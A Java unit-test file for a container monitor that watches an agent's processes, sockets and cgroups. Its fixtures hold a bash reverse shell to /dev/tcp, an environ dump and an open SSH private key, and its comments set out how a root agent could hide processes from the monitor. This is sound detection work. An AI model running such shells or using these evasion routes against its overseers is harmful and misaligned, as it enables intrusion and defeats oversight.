package coi.monitor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Reading snapshots from recorded /proc and cgroup trees, v1 hybrid and v2. */
class HostViewTest {
    @TempDir Path root;

    private static final String TCP = """
              sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
               0: 4B53930A:9E40 0A6433C6:2329 01 00000000:00000000 00:00000000 00000000  1000        0 9100 1 0000000000000000 20 4 30 10 -1
               1: 00000000:0BB8 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 9101 1 0000000000000000 100 0 0 10 0
            """;
    private static final String TCP6 = """
              sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
               0: 0000000000000000FFFF0000020200C0:D6B6 0000000000000000FFFF0000507100CB:01BB 01 00000000:00000000 00:00000000 00000000     0        0 9102 1 0000000000000000 20 4 2 49 -1
               1: B80D0120000000000000000010000000:9E41 000000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 9103 1 0000000000000000 20 4 2 49 -1
            """;

    /** v4-mapped v6 peers come out as plain IPv4, as the detectors compare them. */
    @Test
    void readsProcessesSocketsAndIoOfAContainerUnderCgroupV1() throws IOException {
        Path cgroup = root.resolve("cgroup/pids/lxc.payload.coi-x-1");
        write(cgroup.resolve("cgroup.procs"), "");
        write(cgroup.resolve("init.scope/cgroup.procs"), "101\n");
        write(cgroup.resolve("user.slice/cgroup.procs"), "205\n206\n");
        Path proc = root.resolve("proc");
        process(proc, 101, 1000000, "systemd", 0, "/sbin/init\0", "/usr/lib/systemd/systemd", "/");
        process(proc, 205, 1001000, "bash", 101, "bash\0-i\0", "/usr/bin/bash", "/workspace");
        Files.createSymbolicLink(proc.resolve("205/fd/0"), Path.of("socket:[9100]"));
        Files.createSymbolicLink(proc.resolve("205/fd/1"), Path.of("socket:[9100]"));
        write(proc.resolve("205/io"), "rchar: 5000\nwchar: 42\nsyscr: 3\n");
        write(proc.resolve("101/net/tcp"), TCP);
        write(proc.resolve("101/net/tcp6"), TCP6);
        write(proc.resolve("101/net/udp"), "  sl  local_address rem_address   st\n");

        HostView view = new HostView(proc, root.resolve("cgroup"));
        Path found = view.cgroupOf(HostView.payload("default", "coi-x-1"));
        assertThat(found).isEqualTo(cgroup);
        Snapshot s = view.snapshot("coi-x-1", found);

        assertThat(s.processes()).extracting(Snapshot.Proc::pid).containsExactly(101, 205);
        Snapshot.Proc bash = s.processes().get(1);
        assertThat(bash.uid()).as("mapped back through uid_map").isEqualTo(1000);
        assertThat(bash.ppid()).isEqualTo(101);
        assertThat(bash.comm()).isEqualTo("bash (x)");
        assertThat(bash.cmdline()).containsExactly("bash", "-i");
        assertThat(bash.exe()).isEqualTo("/usr/bin/bash");
        assertThat(bash.cwd()).isEqualTo("/workspace");
        assertThat(bash.fds()).containsEntry(0, "socket:[9100]");
        assertThat(bash.rchar()).isEqualTo(5000);
        assertThat(bash.wchar()).isEqualTo(42);
        assertThat(s.processes().get(0).uid()).isZero();

        assertThat(s.connections()).containsExactly(
                new Snapshot.Conn("tcp", "10.147.83.75", 40512, "198.51.100.10", 9001, "ESTABLISHED", 9100),
                new Snapshot.Conn("tcp", "0.0.0.0", 3000, "0.0.0.0", 0, "LISTEN", 9101),
                new Snapshot.Conn("tcp", "192.0.2.2", 54966, "203.0.113.80", 443, "ESTABLISHED", 9102),
                new Snapshot.Conn("tcp", "2001:db8::10", 40513, "::", 0, "LISTEN", 9103));
        assertThat(Detectors.reverseShells(s)).hasSize(1);
    }

    /** An exec reported by the process events: which container it is in (v1 and v2 lines), then the process itself. */
    @Test
    void anExecIsPlacedInItsContainerByItsCgroupAndReadAlone() throws IOException {
        Path proc = root.resolve("proc");
        process(proc, 300, 1001000, "cat", 101, "cat\0/proc/1/environ\0", "/usr/bin/cat", "/workspace");
        write(proc.resolve("300/cgroup"), "12:pids:/lxc.payload.coi-x-1/user.slice\n0::/lxc.payload.coi-x-1/user.slice\n");
        process(proc, 301, 0, "bash", 1, "bash\0", "/usr/bin/bash", "/root");
        write(proc.resolve("301/cgroup"), "0::/lxc.payload.coi-y-2\n");
        process(proc, 302, 0, "make", 1, "make\0", "/usr/bin/make", "/root");
        write(proc.resolve("302/cgroup"), "12:pids:/user.slice\n0::/user.slice\n");
        HostView view = new HostView(proc, root.resolve("cgroup"));

        assertThat(view.payloadOf(300)).isEqualTo("lxc.payload.coi-x-1");
        assertThat(view.payloadOf(301)).isEqualTo("lxc.payload.coi-y-2");
        assertThat(view.payloadOf(302)).as("a host process").isNull();
        assertThat(view.payloadOf(999)).as("gone").isNull();
        assertThat(view.process(300)).hasValueSatisfying(p -> {
            assertThat(p.cmdline()).containsExactly("cat", "/proc/1/environ");
            assertThat(p.uid()).isEqualTo(1000);
        });
        assertThat(view.process(999)).isEmpty();
    }

    @Test
    void findsTheCgroupOfV2HostsAndProjects() throws IOException {
        write(root.resolve("cgroup/lxc.payload.proj_coi-x-1/cgroup.procs"), "");
        HostView view = new HostView(root.resolve("proc"), root.resolve("cgroup"));
        assertThat(view.cgroupOf(HostView.payload("proj", "coi-x-1"))).isEqualTo(root.resolve("cgroup/lxc.payload.proj_coi-x-1"));
    }

    @Test
    void aMissingCgroupOrAnEmptyOneFailsLoudly() throws IOException {
        HostView view = new HostView(root.resolve("proc"), root.resolve("cgroup"));
        assertThatThrownBy(() -> view.cgroupOf("lxc.payload.gone")).isInstanceOf(ObservationException.class)
                .hasMessageContaining("no cgroup under");
        write(root.resolve("cgroup/pids/lxc.payload.empty/cgroup.procs"), "");
        assertThatThrownBy(() -> view.snapshot("empty", root.resolve("cgroup/pids/lxc.payload.empty")))
                .isInstanceOf(ObservationException.class).hasMessageContaining("has no process");
    }

    @Test
    void decodesKernelAddressesAndCompressesIpv6AsIpDoes() {
        assertThat(HostView.address("0100007F")).isEqualTo("127.0.0.1");
        assertThat(HostView.address("00000000000000000000000001000000")).isEqualTo("::1");
        assertThat(HostView.compress("fd42:c0:1:0:0:0:0:1")).isEqualTo("fd42:c0:1::1");
        assertThat(HostView.compress("1:0:2:0:0:3:0:0")).isEqualTo("1:0:2::3:0:0");
        assertThat(HostView.compress("1:2:3:4:5:6:7:8")).isEqualTo("1:2:3:4:5:6:7:8");
    }

    /**
     * Subgroups past PATH_MAX (long names, 18 levels of 250 characters: the agent, root inside, can
     * nest its cgroups so and move processes there) are walked: each is opened relative to its
     * parent, no path is that long. Built by moving one chain into another, as no path call reaches
     * that deep; removed with rm -rf, which walks relative too.
     */
    @Test
    void subgroupsPastPathMaxAreWalked() throws Exception {
        Path top = Files.createTempDirectory("coitest-cgroups");
        try {
            Path cgroup = write(top.resolve("lxc.payload.coi-x-1/cgroup.procs"), "1\n").getParent();
            Path upper = chain(cgroup, "u", 9, 10), lower = chain(top, "l", 9, 20);
            Files.move(top.resolve("l".repeat(250)), upper.resolve("l".repeat(250)));
            assertThat(upper.toString().length() + 9 * 251).as("the deepest subgroup's path").isGreaterThan(4096);

            HostView.Tree tree = new HostView(root.resolve("proc"), top).tree(cgroup);

            assertThat(tree.pids()).containsExactly(1, 10, 11, 12, 13, 14, 15, 16, 17, 18, 20, 21, 22, 23, 24, 25, 26, 27, 28);
            assertThat(tree.beyond()).isNull();
        } finally {
            removeTree(top);
        }
    }

    /**
     * A tree nested 3,000 deep is walked to {@link HostView#MAX_DEPTH} levels and reported past
     * it, on a thread with the supervisor's stack (256 KiB, bin/coi): the recursive walk before
     * overflowed it, which ended the fork-bomb guard's thread.
     */
    @Test
    void aTreeNestedPastTheBoundIsReportedNotRecursedInto() throws Exception {
        Path top = Files.createTempDirectory("coitest-cgroups");
        try {
            Path cgroup = write(top.resolve("lxc.payload.coi-x-1/cgroup.procs"), "1\n").getParent();
            write(cgroup.resolve("init.scope/cgroup.procs"), "2\n");
            // 3,000 levels, each with its cgroup.procs: a chain of 1,500 moved into the deepest folder of another
            Path deepest = chain(cgroup, 1500);
            chain(top.resolve("chain"), 1500);
            Files.move(top.resolve("chain/a"), deepest.resolve("a"));
            write(cgroup.resolve("a/cgroup.procs"), "3\n");
            write(cgroup.resolve("a/".repeat(64) + "cgroup.procs"), "64\n");
            write(cgroup.resolve("a/".repeat(65) + "cgroup.procs"), "65\n");
            // beside the deep chain, after it in no particular order: still walked
            write(cgroup.resolve("user.slice/cgroup.procs"), "4\n");

            var result = new java.util.concurrent.atomic.AtomicReference<Object>();
            Thread small = new Thread(null, () -> {
                try {
                    result.set(new HostView(root.resolve("proc"), top).tree(cgroup));
                } catch (Throwable t) {
                    result.set(t);
                }
            }, "small stack", 256 * 1024);
            small.start();
            small.join();

            assertThat(result.get()).isInstanceOf(HostView.Tree.class);
            HostView.Tree tree = (HostView.Tree) result.get();
            assertThat(tree.pids()).containsExactlyInAnyOrder(1, 2, 3, 4, 64);
            assertThat(tree.beyond()).isEqualTo("a/".repeat(64) + "a");
            Threat threat = Detectors.hiddenCgroups(tree.beyond());
            assertThat(threat.level()).isEqualTo(Level.HIGH);
            assertThat(threat.category()).isEqualTo(Threat.PROCESSES);
            assertThat(threat.description()).contains("deeper than 64 levels").contains("a/a/a");
        } finally {
            removeTree(top);
        }
    }

    /**
     * A subgroup whose processes cannot be read for another reason than its going away (here its
     * cgroup.procs is a folder: EISDIR; for a supervisor that is not root, root inside can chmod it)
     * is reported, not skipped as gone; one that is gone is skipped.
     */
    @Test
    void aSubgroupThatCannotBeReadIsReportedNotSkippedAsGone() throws Exception {
        Path cgroup = write(root.resolve("cgroup/lxc.payload.coi-x-1/cgroup.procs"), "1\n").getParent();
        Files.createDirectories(cgroup.resolve("hidden/cgroup.procs"));
        Files.createDirectories(cgroup.resolve("empty"));
        HostView.Tree tree = new HostView(root.resolve("proc"), root.resolve("cgroup")).tree(cgroup);
        assertThat(tree.pids()).containsExactly(1);
        assertThat(tree.beyond()).startsWith("hidden (");
    }

    /** More subgroups than {@link HostView#MAX_GROUPS}: the walk ends there and says so. */
    @Test
    void moreSubgroupsThanTheBoundAreReported() throws Exception {
        Path cgroup = write(root.resolve("cgroup/lxc.payload.coi-x-1/cgroup.procs"), "1\n").getParent();
        for (int i = 0; i <= HostView.MAX_GROUPS; i++) Files.createDirectory(cgroup.resolve("g" + i));
        HostView.Tree tree = new HostView(root.resolve("proc"), root.resolve("cgroup")).tree(cgroup);
        assertThat(tree.beyond()).startsWith("g");
        assertThat(new HostView(root.resolve("proc"), root.resolve("cgroup")).pids(cgroup)).containsExactly(1);
    }

    /**
     * Root inside moves a process from a subgroup the walk has not read yet into one it has read (it sees the host open
     * each cgroup.procs): no walk lists it. pids.current still counts its tasks, so the walk falls short, and the
     * process is found by scanning /proc for the ones whose cgroup is under the container's; a process of a container
     * whose name only starts the same, and the host's, are not taken.
     */
    @Test
    void aProcessMovedBehindTheWalkIsFoundByScanningProc() throws IOException {
        Path cgroup = root.resolve("cgroup/pids/lxc.payload.coi-x-1");
        write(cgroup.resolve("cgroup.procs"), "");
        write(cgroup.resolve("init.scope/cgroup.procs"), "101\n");
        write(cgroup.resolve("user.slice/cgroup.procs"), "");
        write(cgroup.resolve("pids.current"), "4\n");
        Path proc = root.resolve("proc");
        process(proc, 101, 1000000, "systemd", 0, "/sbin/init\0", "/usr/lib/systemd/systemd", "/");
        write(proc.resolve("101/cgroup"), "12:pids:/lxc.payload.coi-x-1/init.scope\n0::/lxc.payload.coi-x-1/init.scope\n");
        process(proc, 207, 1000000, "bash", 101, "bash\0-c\0exec 3<>/dev/tcp/198.51.100.10/9\0", "/usr/bin/bash", "/");
        stat(proc, 207, "bash", "S", 3);
        write(proc.resolve("207/cgroup"), "13:cpu,pids:/lxc.payload.coi-x-1/user.slice\n0::/lxc.payload.coi-x-1\n");
        process(proc, 208, 1000000, "bash", 1, "bash\0", "/usr/bin/bash", "/");
        write(proc.resolve("208/cgroup"), "12:pids:/lxc.payload.coi-x-10/init.scope\n0::/lxc.payload.coi-x-1\n");
        process(proc, 209, 0, "bash", 1, "bash\0", "/usr/bin/bash", "/");
        write(proc.resolve("209/cgroup"), "12:pids:/user.slice\n0::/lxc.payload.coi-x-1\n");
        HostView view = new HostView(proc, root.resolve("cgroup"));

        HostView.Tree tree = view.tree(cgroup);

        assertThat(tree.pids()).containsExactly(101, 207);
        assertThat(tree.beyond()).isNull();
        assertThat(Detectors.reverseShells(view.detailed("coi-x-1", tree.pids()))).extracting(Threat::title)
                .containsExactly("reverse shell: bash redirecting to /dev/tcp or /dev/udp");
    }

    /** Tasks, not processes: a walk that finds every process of a threaded workload falls not short, and /proc is not scanned. */
    @Test
    void aWalkWhoseProcessesHaveAllTheTasksCountedIsNotScannedAgain() throws IOException {
        Path cgroup = root.resolve("cgroup/pids/lxc.payload.coi-x-1");
        write(cgroup.resolve("cgroup.procs"), "101\n");
        write(cgroup.resolve("pids.current"), "5\n");
        Path proc = root.resolve("proc");
        process(proc, 101, 1000000, "node", 0, "node\0", "/usr/bin/node", "/");
        stat(proc, 101, "node", "S", 5);
        process(proc, 102, 1000000, "bash", 101, "bash\0", "/usr/bin/bash", "/");
        write(proc.resolve("102/cgroup"), "12:pids:/lxc.payload.coi-x-1\n");
        assertThat(new HostView(proc, root.resolve("cgroup")).tree(cgroup)).isEqualTo(new HostView.Tree(List.of(101), null, 0));
    }

    /** coi-x-1's cgroup (returned) listing its init, 101, alone; its pids.current {@code counted}; 101's /proc/PID/cgroup {@code lines}. */
    private Path initOnly(int counted, String lines) throws IOException {
        Path cgroup = root.resolve("cgroup/pids/lxc.payload.coi-x-1");
        write(cgroup.resolve("cgroup.procs"), "101\n");
        write(cgroup.resolve("pids.current"), counted + "\n");
        Path proc = root.resolve("proc");
        process(proc, 101, 1000000, "systemd", 0, "/sbin/init\0", "/usr/lib/systemd/systemd", "/");
        write(proc.resolve("101/cgroup"), lines);
        return cgroup;
    }

    /**
     * Tasks that neither two walks nor the scan find are counted as unaccounted for (the guard raises them when that
     * lasts); a walk that finds nothing in a container whose pids.current counts tasks is no container stopping. One
     * with none is; a pids.current that cannot be read leaves the count not known.
     */
    @Test
    void tasksNoWalkNorScanFindsAreReportedAndAnEmptyWalkIsNoContainerStopping() throws IOException {
        Path cgroup = initOnly(7, "12:pids:/lxc.payload.coi-x-1\n");
        Path proc = root.resolve("proc");
        HostView view = new HostView(proc, root.resolve("cgroup"));

        HostView.Tree tree = view.tree(cgroup);
        assertThat(tree).isEqualTo(new HostView.Tree(List.of(101), null, 6));

        write(cgroup.resolve("cgroup.procs"), "");
        write(proc.resolve("101/cgroup"), "12:pids:/\n");
        HostView.Tree empty = view.tree("coi-x-1", cgroup);
        assertThat(empty).isEqualTo(new HostView.Tree(List.of(), null, 7));
        assertThat(view.detailed("coi-x-1", empty.pids()).processes()).isEmpty();

        write(cgroup.resolve("pids.current"), "0\n");
        assertThatThrownBy(() -> view.tree("coi-x-1", cgroup)).isInstanceOf(ObservationException.class).hasMessageContaining("has no process");
        Files.delete(cgroup.resolve("pids.current"));
        Files.createDirectory(cgroup.resolve("pids.current"));
        assertThat(view.tree(cgroup)).as("not known: raised when it lasts").isEqualTo(new HostView.Tree(List.of(), null, HostView.NOT_KNOWN));
        assertThatThrownBy(() -> view.tree("coi-x-1", cgroup)).as("nothing found, nothing known missing: stopping")
                .isInstanceOf(ObservationException.class).hasMessageContaining("has no process");
    }

    /**
     * A process whose main thread ended (pthread_exit) while another runs: the kernel shows its leader as a zombie
     * with an empty command line, no exe, no cwd and no descriptors, and on a v1 hierarchy in the root cgroup ("/";
     * its v2 line still says where it is). It is read through its first live thread; its walk falls short of
     * nothing when listed (it counts as its two tasks), and it is found by the scan when moved out of the walk's way.
     */
    @Test
    void aLeaderThatEndedBeforeItsThreadsIsReadThroughALiveThread() throws IOException {
        Path cgroup = initOnly(4, "12:pids:/lxc.payload.coi-x-1\n0::/lxc.payload.coi-x-1/init.scope\n");
        Path proc = root.resolve("proc");
        Path leader = proc.resolve("205");
        write(leader.resolve("stat"), "205 (shell) Z 101 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 3 0\n");
        write(leader.resolve("status"), "Name:\tshell\nState:\tZ (zombie)\nUid:\t1001000\t1001000\t1001000\t1001000\n");
        write(leader.resolve("cmdline"), "");
        write(leader.resolve("io"), "rchar: 77\nwchar: 5\n");
        Files.createDirectories(leader.resolve("fd"));
        write(leader.resolve("cgroup"), "12:pids:/\n0::/lxc.payload.coi-x-1/user.slice\n");
        write(leader.resolve("task/205/stat"), "205 (shell) Z 101\n");
        write(leader.resolve("task/206/stat"), "206 (shell) X 101\n");
        Path thread = leader.resolve("task/207");
        write(thread.resolve("stat"), "207 (shell) S 101\n");
        write(thread.resolve("cmdline"), "./shell\0/dev/tcp/198.51.100.10/9\0");
        Files.createDirectories(thread.resolve("fd"));
        Files.createSymbolicLink(thread.resolve("fd/0"), Path.of("socket:[9100]"));
        Files.createSymbolicLink(thread.resolve("exe"), Path.of("/usr/bin/bash"));
        Files.createSymbolicLink(thread.resolve("cwd"), Path.of("/root"));
        write(proc.resolve("101/net/tcp"), TCP);
        HostView view = new HostView(proc, root.resolve("cgroup"));

        HostView.Tree tree = view.tree(cgroup);
        assertThat(tree.pids()).as("moved out of the walk's way: found by its v2 line").containsExactly(101, 205);
        assertThat(tree.beyond()).isNull();
        Snapshot s = view.detailed("coi-x-1", tree.pids());
        Snapshot.Proc shell = s.processes().get(1);
        assertThat(shell.comm()).isEqualTo("shell");
        assertThat(shell.ppid()).isEqualTo(101);
        assertThat(shell.uid()).isEqualTo(1000);
        assertThat(shell.cmdline()).containsExactly("./shell", "/dev/tcp/198.51.100.10/9");
        assertThat(shell.exe()).isEqualTo("/usr/bin/bash");
        assertThat(shell.cwd()).isEqualTo("/root");
        assertThat(shell.fds()).containsEntry(0, "socket:[9100]");
        assertThat(shell.rchar()).as("the whole process's io, the leader's").isEqualTo(77);
        assertThat(Detectors.reverseShells(s)).extracting(Threat::title).containsExactly(
                "reverse shell: bash with its stdin on a connection to 198.51.100.10:9001", "reverse shell: bash redirecting to /dev/tcp or /dev/udp");

        // no live thread: read as it is (nothing to tell by)
        Files.delete(thread.resolve("stat"));
        assertThat(view.process(205)).hasValueSatisfying(p -> {
            assertThat(p.cmdline()).isEmpty();
            assertThat(p.exe()).isNull();
            assertThat(p.fds()).isEmpty();
        });
    }

    /**
     * A thread that called unshare(CLONE_FILES) holds descriptors its process's /proc/PID/fd does not show. Each table
     * other than the one read is listed once, from its first thread, as an entry of its own (the thread's tid, its
     * process as parent, the process's command line and uid, the thread's folder and descriptors, no io); threads that
     * share the process's table or one listed already, and a table with nothing in it, add nothing. In a recorded tree
     * threads share a table when their fd folders are one folder.
     */
    @Test
    void aThreadWithADescriptorTableOfItsOwnIsListedWithIt() throws IOException {
        Path cgroup = initOnly(6, "0::/lxc.payload.coi-x-1/init.scope\n");
        write(cgroup.resolve("user.slice/cgroup.procs"), "300\n");
        Path proc = root.resolve("proc");
        process(proc, 300, 1001000, "bash", 101, "bash\0-i\0", "/usr/bin/bash", "/workspace");
        stat(proc, 300, "bash", "S", 5);
        write(proc.resolve("300/io"), "rchar: 900\nwchar: 9\n");
        Path dir = proc.resolve("300");
        Files.createSymbolicLink(dir.resolve("fd/1"), Path.of("pipe:[7]"));
        Files.createDirectories(dir.resolve("task"));
        Files.createSymbolicLink(dir.resolve("task/300"), Path.of("."));
        Files.createDirectories(dir.resolve("task/301"));
        Files.createSymbolicLink(dir.resolve("task/301/fd"), Path.of("../../fd"));
        Path own = dir.resolve("task/302");
        Files.createDirectories(own.resolve("fd"));
        Files.createSymbolicLink(own.resolve("fd/0"), Path.of("socket:[9100]"));
        Files.createSymbolicLink(own.resolve("fd/5"), Path.of("/root/.ssh/id_ed25519"));
        Files.createSymbolicLink(own.resolve("cwd"), Path.of("/tmp"));
        Files.createDirectories(dir.resolve("task/303"));
        Files.createSymbolicLink(dir.resolve("task/303/fd"), Path.of("../302/fd"));
        Files.createDirectories(dir.resolve("task/304/fd"));
        write(proc.resolve("101/net/tcp"), TCP);
        HostView view = new HostView(proc, root.resolve("cgroup"));

        Snapshot s = view.snapshot("coi-x-1", cgroup);
        assertThat(s.processes()).extracting(Snapshot.Proc::pid).containsExactly(101, 300, 302);
        assertThat(s.processes().get(1).fds()).containsExactly(java.util.Map.entry(1, "pipe:[7]"));
        Snapshot.Proc thread = s.processes().get(2);
        assertThat(thread.ppid()).isEqualTo(300);
        assertThat(thread.uid()).isEqualTo(1000);
        assertThat(thread.cmdline()).containsExactly("bash", "-i");
        assertThat(thread.exe()).isEqualTo("/usr/bin/bash");
        assertThat(thread.cwd()).isEqualTo("/tmp");
        assertThat(thread.fds()).containsOnly(java.util.Map.entry(0, "socket:[9100]"), java.util.Map.entry(5, "/root/.ssh/id_ed25519"));
        assertThat(thread.rchar()).isZero();
        assertThat(Detectors.reverseShells(s)).singleElement().satisfies(t -> {
            assertThat(t.title()).isEqualTo("reverse shell: bash with its stdin on a connection to 198.51.100.10:9001");
            assertThat(t.evidence().process().pid()).isEqualTo(302);
        });
        assertThat(Detectors.credentialScans(s)).extracting(Threat::title).containsExactly("reading credential files by bash");

        // one thread: its tasks are not listed (nothing to compare)
        stat(proc, 300, "bash", "S", 1);
        assertThat(view.snapshot("coi-x-1", cgroup).processes()).extracting(Snapshot.Proc::pid).containsExactly(101, 300);
    }

    /** A process's stat with its state and num_threads (the 20th field). */
    private static void stat(Path proc, int pid, String comm, String state, int threads) throws IOException {
        write(proc.resolve(pid + "/stat"), pid + " (" + comm + ") " + state + " 1 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 " + threads + " 0 0\n");
    }

    /** {@code levels} folders of 250 characters ({@code letter}) below {@code under}, each with a cgroup.procs of one pid from {@code first}; the last. */
    private static Path chain(Path under, String letter, int levels, int first) throws IOException {
        Path at = under;
        for (int i = 0; i < levels; i++) {
            at = at.resolve(letter.repeat(250));
            write(at.resolve("cgroup.procs"), (first + i) + "\n");
        }
        return at;
    }

    /** {@code levels} folders "a" below {@code under}, each with an empty cgroup.procs; the last. */
    private static Path chain(Path under, int levels) throws IOException {
        Path at = under;
        for (int i = 0; i < levels; i++) Files.writeString(Files.createDirectories(at = at.resolve("a")).resolve("cgroup.procs"), "");
        return at;
    }

    /** rm -rf: it walks relative to open folders; JUnit's clean-up of a temporary folder works by path and fails past PATH_MAX. */
    private static void removeTree(Path top) throws Exception {
        Process rm = new ProcessBuilder("rm", "-rf", top.toString()).inheritIO().start();
        assertThat(rm.waitFor()).isZero();
        assertThat(top).doesNotExist();
    }

    private static void process(Path proc, int pid, int hostUid, String comm, int ppid, String cmdline, String exe, String cwd) throws IOException {
        Path dir = proc.resolve(Integer.toString(pid));
        write(dir.resolve("stat"), pid + " (" + comm + (pid == 205 ? " (x)" : "") + ") S " + ppid + " 1 1 0 -1\n");
        write(dir.resolve("status"), "Name:\t" + comm + "\nUid:\t" + hostUid + "\t" + hostUid + "\t" + hostUid + "\t" + hostUid + "\n");
        write(dir.resolve("cmdline"), cmdline);
        write(dir.resolve("io"), "rchar: 0\nwchar: 0\n");
        write(dir.resolve("uid_map"), "         0    1000000 1000000000\n");
        Files.createDirectories(dir.resolve("fd"));
        Files.createSymbolicLink(dir.resolve("exe"), Path.of(exe));
        Files.createSymbolicLink(dir.resolve("cwd"), Path.of(cwd));
    }

    private static Path write(Path file, String text) throws IOException {
        Files.createDirectories(file.getParent());
        return Files.writeString(file, text);
    }
}
